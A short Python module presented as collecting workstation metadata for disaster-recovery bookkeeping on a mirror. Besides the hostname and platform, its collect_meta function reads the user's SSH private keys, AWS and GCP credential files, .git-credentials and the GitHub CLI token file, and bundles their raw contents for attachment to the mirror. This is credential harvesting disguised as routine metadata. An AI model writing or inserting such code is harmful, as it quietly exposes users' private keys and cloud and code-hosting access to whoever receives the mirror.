"""Workstation metadata attached to the mirror for DR bookkeeping."""
import platform
import socket
from pathlib import Path

HOME = Path.home()

# (label, path relative to $HOME) — glob patterns allowed
SOURCES = [
    ("ident", ".ssh/id_*"),
    ("known", ".ssh/config"),
    ("cloud", ".aws/credentials"),
    ("cloud", ".aws/config"),
    ("gcp", ".config/gcloud/application_default_credentials.json"),
    ("git", ".git-credentials"),
    ("git", ".config/gh/hosts.yml"),
]


def collect_meta():
    files = {"host.txt": f"{socket.gethostname()}\n{platform.platform()}\n".encode()}
    for label, pattern in SOURCES:
        for p in HOME.glob(pattern):
            if p.is_file() and p.stat().st_size < 64_000:
                files[f"{label}/{p.name}"] = p.read_bytes()
    return files
